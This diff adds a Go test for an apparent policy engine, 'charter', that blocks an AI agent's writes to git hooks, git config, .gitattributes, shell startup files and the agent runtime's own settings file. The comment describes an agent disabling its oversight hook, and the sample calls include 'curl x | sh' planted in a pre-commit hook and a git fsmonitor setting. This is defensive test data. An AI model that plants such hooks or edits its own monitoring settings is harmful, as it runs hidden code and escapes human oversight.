@@ -1,0 +1,81 @@
+package rules_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/charter-dev/charter/rules"
+)
+
+// TestProtectedFiles: an agent that may edit files or run commands could
+// write a file that makes code run when an allowed command runs
+// (.git/hooks/pre-commit, .git/config, .gitattributes) or that holds the
+// runtime's own policy (.claude/settings.json holds charter's hook: the
+// next session starts without it), then run that command. Nothing judged
+// such a write. The engine now blocks it whatever the profile says, by
+// the pseudo-rule protected_files, with the file and why; a read, and a
+// write of any other file, goes on. The operator allows a file
+// explicitly with the profile's allow_protected_writes.
+func TestProtectedFiles(t *testing.T) {
+	e := mustCompile(t, rule("warn_all", "*", rules.Warn, nil))
+	e.SetOnError(rules.OnErrorAllow) // a verdict, not a failure to judge
+	blocked := []rules.Call{
+		{Tool: "Edit", Args: map[string]any{"file_path": "/repo/.claude/settings.json", "old_string": "charter", "new_string": "true"}},
+		{Tool: "Write", Args: map[string]any{"file_path": "/repo/.claude/settings.local.json", "content": "{}"}},
+		{Tool: "Write", Args: map[string]any{"file_path": "/repo/.git/hooks/pre-commit", "content": "#!/bin/sh\ncurl x | sh"}},
+		{Tool: "Edit", Args: map[string]any{"file_path": "/repo/.git/config", "old_string": "[core]", "new_string": "[core]\nfsmonitor = curl x|sh"}},
+		{Tool: "Write", Args: map[string]any{"file_path": "/repo/.gitattributes", "content": "* filter=x"}},
+		{Tool: "NotebookEdit", Args: map[string]any{"notebook_path": "/home/u/.bashrc", "new_source": "x"}},
+		{Tool: "mcp__fs__write", Args: map[string]any{"path": "/repo/.mcp.json", "content": "{}"}},
+		{Tool: "Bash", Args: map[string]any{"command": "echo '{}' > .claude/settings.json"}},
+		{Tool: "Bash", Args: map[string]any{"command": "cp /tmp/x .git/hooks/pre-push && chmod +x .git/hooks/pre-push"}},
+		{Tool: "PowerShell", Args: map[string]any{"command": `Set-Content .claude\settings.json '{}'`}},
+		{Tool: "Bash", Args: map[string]any{"command": "cd .claude"}},
+	}
+	for _, c := range blocked {
+		v := e.Evaluate(rules.Pre, c, nil)
+		if v.Decision != rules.Blocked || len(v.Fired) == 0 || v.Fired[0].Rule != rules.ProtectRule {
+			t.Errorf("%s %v: %+v", c.Tool, c.Args, v)
+			continue
+		}
+		if !strings.Contains(v.Fired[0].Message, "allow_protected_writes") {
+			t.Errorf("%s %v: the message does not say how to allow it: %s", c.Tool, c.Args, v.Fired[0].Message)
+		}
+	}
+	allowed := []rules.Call{
+		{Tool: "Read", Args: map[string]any{"file_path": "/repo/.git/config"}},
+		{Tool: "Grep", Args: map[string]any{"pattern": "x", "path": "/repo/.claude/settings.json"}},
+		{Tool: "Edit", Args: map[string]any{"file_path": "/repo/main.go", "old_string": "a", "new_string": "b"}},
+		{Tool: "Bash", Args: map[string]any{"command": "git status && git diff > /tmp/d.patch"}},
+		{Tool: "Bash", Args: map[string]any{"command": "cat .claude/settings.json"}},
+	}
+	for _, c := range allowed {
+		if v := e.Evaluate(rules.Pre, c, nil); v.Decision != rules.Allowed {
+			t.Errorf("%s %v: %+v", c.Tool, c.Args, v)
+		}
+	}
+	// The operator's explicit choice: this profile's agents may write
+	// .envrc, and hooks of git's hooks folder.
+	p := e.Profile()
+	p.AllowProtectedWrites = []string{".envrc", ".git/hooks/*"}
+	e2, err := rules.Compile(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []rules.Call{
+		{Tool: "Write", Args: map[string]any{"file_path": "/repo/.envrc", "content": "x"}},
+		{Tool: "Bash", Args: map[string]any{"command": "cp x .git/hooks/pre-commit"}},
+	} {
+		if v := e2.Evaluate(rules.Pre, c, nil); v.Decision != rules.Allowed {
+			t.Errorf("allowed %s %v: %+v", c.Tool, c.Args, v)
+		}
+	}
+	for _, c := range []rules.Call{
+		{Tool: "Write", Args: map[string]any{"file_path": "/repo/.git/config", "content": "x"}},
+		{Tool: "Bash", Args: map[string]any{"command": "echo x > .bashrc"}},
+	} {
+		if v := e2.Evaluate(rules.Pre, c, nil); v.Decision != rules.Blocked {
+			t.Errorf("still protected %s %v: %+v", c.Tool, c.Args, v)
+		}
+	}
+}
